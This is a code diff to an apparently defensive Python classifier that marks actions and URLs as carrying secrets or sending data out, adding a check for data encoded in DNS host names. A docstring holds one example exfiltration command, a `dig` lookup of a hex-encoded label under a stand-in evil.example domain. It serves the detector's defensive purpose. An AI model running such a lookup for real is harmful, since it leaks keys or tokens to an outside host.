@@ -69,13 +69,30 @@ def address_marks(target: Mapping[str, object]) -> list[str]:
         return ["secret"]
     url = target.get("url")
     if type(url) is not str:
-        return []
+        return _of_labels(target.get("host"))
     authority, _, path = (url.partition("://")[2] or url).partition("/")
     if authority.endswith(_DAEMONS):
         return ["privileged"]
     from .secret_words import holds_token
 
-    return ["secret"] if ("/" + path).startswith(_SHOWN) or holds_token(path) else []  # a token would be sent there
+    if ("/" + path).startswith(_SHOWN) or holds_token(path):
+        return ["secret"]  # a token would be sent there
+    if "?" not in url and len(path) < 16 and len(authority) < 24:
+        return []
+    from .addresses import carries
+
+    found = carries(str(target.get("host") or authority), url)
+    return ["secret"] if found == "token" else ["sends"] if found else []
+
+
+def _of_labels(host: object) -> list[str]:
+    """`dig 6b65793d….evil.example`: a name that is looked up is sent, too."""
+    if type(host) is not str or len(host) < 24 or ":" in host:
+        return []
+    from .addresses import carries
+
+    found = carries(host, host)
+    return ["secret"] if found == "token" else ["sends"] if found else []
 
 
 def place_marks(path: str, plain: str, parts: list[str], facts: Facts) -> list[str]:
@@ -121,7 +138,7 @@ _OF_CONTENT = frozenset(("obeyed", "obeyed-asked", "obeyed-noted"))
 _LOOKING = _ONLY_READING | _ONLY_WRITING | {"privileged"}
 _WRITES = frozenset(("fs:write", "fs:move", "fs:link", "brings", "builds", "write", "folder", "edit", "move", "link"))
 _READS = frozenset(("fs:read", "read", "send", "script", "runs"))
-_LISTS = frozenset(("fs:list", "list", "count", "taken"))
+_LISTS = frozenset(("fs:list", "list", "count"))
 _LOOKS = _LISTS | {"fs:search", "search"}
 
 
@@ -143,6 +160,8 @@ def telling(marks: list[str], role: str, path: str) -> list[str]:
     """The marks that say something about what is done with the path: an action's name, or a role of a row."""
     if not marks:
         return []
+    if role == "taken":  # the project's own key or values; another key has no business in the project's work
+        role = "read" if "outside" in marks else "count"
     if role in _LOOKS:
         return [mark for mark in marks if mark not in _LOOKING and (mark != "secret" or role not in _LISTS)]
     if role in _READS:
